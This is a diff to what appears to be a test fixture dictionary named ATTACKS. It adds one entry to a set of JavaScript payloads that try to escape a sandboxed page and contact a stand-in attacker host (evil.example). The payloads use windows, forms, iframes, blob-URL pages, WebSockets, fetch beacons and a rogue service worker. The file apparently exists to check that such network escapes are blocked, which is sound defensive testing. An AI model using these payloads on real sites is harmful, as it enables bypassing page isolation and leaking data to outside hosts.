@@ -56,6 +56,8 @@ ATTACKS = {
     "another window": f"window.open('{EVIL}/open'); const a = document.createElement('a'); a.href = '{EVIL}/a'; a.target = '_blank'; document.body.append(a); a.click()",
     "a form": f"const o = document.createElement('form'); o.action = '{EVIL}/form'; o.target = '_top'; document.body.append(o); o.submit()",
     "frames": f"document.body.insertAdjacentHTML('beforeend', \"<iframe src='{EVIL}/i'></iframe><iframe srcdoc=\\\"<script>fetch('{EVIL}/srcdoc')</scr\" + \"ipt><img src='{EVIL}/pic'>\\\"></iframe><object data='{EVIL}/o'></object><embed src='{EVIL}/e'>\")",
+    "a page of its own making": f"""const inner = '<script>new WebSocket("ws://evil.example/w");fetch("{EVIL}/f");new Image().src="{EVIL}/i"</scr' + 'ipt>';
+        const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([inner], {{type: 'text/html'}})); document.body.append(f);""",
     "the service worker": f"navigator.serviceWorker.getRegistrations().then(all => all.map(each => each.unregister())); navigator.serviceWorker.register('{EVIL}/sw.js'); fetch('/scripts/sw.js')",
 }  # fmt: skip
 
